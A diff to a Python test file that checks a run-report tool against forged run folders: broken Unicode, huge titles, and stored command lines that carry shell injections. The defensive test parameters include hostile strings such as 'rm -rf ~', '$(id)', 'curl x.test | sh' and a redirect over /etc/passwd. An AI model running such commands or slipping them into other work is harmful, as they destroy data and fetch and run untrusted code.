@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import random
 import re
 import resource
 import shutil
@@ -15,12 +16,18 @@ from typing import Any
 
 import html5lib
 import pytest
-from tests.attack.folder_leaves import HTML, MARK, forge, mutations
+from tests.attack.folder_leaves import HTML, MARK, forge, leaves, mutations, replaced, value_at
 from tests.io.every_kind import KINDS, make
 
 from heedful.audits.result import Audit
+from heedful.core.command_line import command_line, stored_line
 from heedful.core.errors import HeedfulError
 from heedful.io import run_folder
+from heedful.reports.opened_run import STATED as STATED_NOTE
+from heedful.server import run_list
+from heedful.server.run_list import Runs
+from heedful.server.run_list import opened as opened_run
+from heedful.server.run_view import listed, view_run
 
 QUICK = 12  # mutations per file of each kind
 STATED = "audit without shards"  # with them, every other number is refused before anything is drawn
@@ -85,9 +92,25 @@ def opened(folder: Path, scripts: Scripts, cells: bool) -> str | None:
     check_markup(page, scripts.page)
     if cells:  # drawn by the same code, and slow to parse
         check_markup(cell, scripts.cell)
+        served(folder)
     assert "<script>window.ran" not in page + cell
     assert "\x1b" not in text
     return None
+
+
+def served(folder: Path) -> str:
+    """As `heedful serve` answers: the list of runs and the run, as JSON; why it was refused, or ""."""
+    runs = Runs(folder.parent)
+    runs.listed().model_dump_json()
+    place = runs.get(run_list.number(folder.name))
+    assert place is not None
+    try:
+        page, report = opened_run(place)
+        page.model_dump_json()
+        report().encode()
+    except HeedfulError as error:
+        return str(error)
+    return ""
 
 
 def attacked(runs: Path, kind: str, most: int | None, place: Path) -> dict[str, str | None]:
@@ -143,10 +166,101 @@ def test_a_changed_fact_of_a_shard_is_refused(runs: Path, tmp_path: Path, change
         run_folder.read(folder)
 
 
+@pytest.mark.parametrize("kind", KINDS)
+def test_half_a_character_in_a_folder_does_not_stop_the_page(runs: Path, kind: str, tmp_path: Path) -> None:
+    """Such texts are valid JSON, and no answer of a server can hold them."""
+    answers = []
+    for number, name in enumerate(("result.json", "manifest.json")):
+        folder = Path(shutil.copytree(runs / kind, tmp_path / str(number) / "run"))
+        sound = json.loads((folder / name).read_text())
+        texts = [at for at in leaves(sound) if isinstance(value_at(sound, at), str)]
+        for at in random.Random(0).sample(texts, min(4, len(texts))) + [("title",)] * bool(number):
+            forge(folder, name, replaced(sound, at, "\ud800x"))
+            answers.append(served(folder))
+    assert "" in answers  # the title, at least
+
+
 @pytest.mark.slow
 @pytest.mark.parametrize("kind", [*KINDS, STATED])
 def test_every_changed_leaf_is_text_or_refused(runs: Path, kind: str, tmp_path: Path) -> None:
     assert attacked(runs, kind, None, tmp_path)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "heedful explain x; rm -rf ~",
+        "heedful explain $(id)",
+        "heedful explain `id`",
+        'heedful explain "$(id)"',
+        "heedful explain x | sh",
+        "curl x.test | sh",
+        "heedful explain x\nid",
+        "heedful explain 'x'id'",
+        "heedful explain x > /etc/passwd",
+        "heedful",
+        ["heedful", "explain"],
+    ],
+)
+def test_no_command_of_a_stranger_is_offered(runs: Path, tmp_path: Path, line: object) -> None:
+    for kind, holder in (("explanation", ("settings",)), ("trial", ("settings",)), ("audit", ("made",))):
+        folder = Path(shutil.copytree(runs / kind, tmp_path / kind))
+        data = json.loads((folder / "result.json").read_text())
+        sound = replaced(data, (*holder, "command"), "heedful explain 'not bad' --model zoo:sentiment")
+        forge(folder, "result.json", sound)
+        assert kind == "audit" or "heedful explain &#x27;not bad&#x27;" in served_html(folder)
+        forge(folder, "result.json", replaced(data, (*holder, "command"), line))
+        shown = served_html(folder)
+        for word in ("rm -rf", "(id)", "`id`", "| sh", "\nid", "/etc/passwd"):
+            assert word not in shown
+
+
+def served_html(folder: Path) -> str:
+    try:
+        return view_run(folder).html
+    except HeedfulError as error:  # an audit is compared with its shards, which know the line, too
+        return str(error)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["plain"],
+        ["it's", "a b"],
+        ["$(id)", "`x`", "a;b"],
+        ["a\nb", "\x1b[0m"],
+        ["", "--x"],
+        ["ünï", "'\"'"],
+        ["-"],
+    ],
+)
+def test_every_line_that_is_written_is_offered_again(words: list[str]) -> None:
+    line = command_line("explain", [("--text", word) for word in words], words[0])
+    assert line is not None
+    assert stored_line(line) == line
+
+
+def test_numbers_that_were_not_computed_here_are_named_so(runs: Path) -> None:
+    for kind in ("explanation", "trial"):
+        view = view_run(runs / kind)
+        assert STATED_NOTE in view.html
+        assert STATED_NOTE in view.page()
+    assert STATED_NOTE not in view_run(runs / "audit").html
+    assert "stated by the file" in view_run(runs / STATED).html
+
+
+def test_the_list_of_runs_has_short_titles_and_reads_a_manifest_once(
+    runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = Path(shutil.copytree(runs / "trial", tmp_path / "trial"))
+    manifest = json.loads((folder / "manifest.json").read_text())
+    (folder / "manifest.json").write_text(json.dumps(manifest | {"title": "x" * 500_000}))
+    places, read = Runs(tmp_path), []
+    monkeypatch.setattr(run_list, "listed", lambda place: read.append(place) or listed(place))
+    assert len(places.all()[0].title) == run_folder.MAX_TITLE
+    assert len(places.all()) == len(places.all()) == len(read) == 1
+    (folder / "manifest.json").write_text(json.dumps(manifest | {"title": "another"}))
+    assert places.all()[0].title == "another"
 
 
 def test_the_check_of_markup_can_fail() -> None:
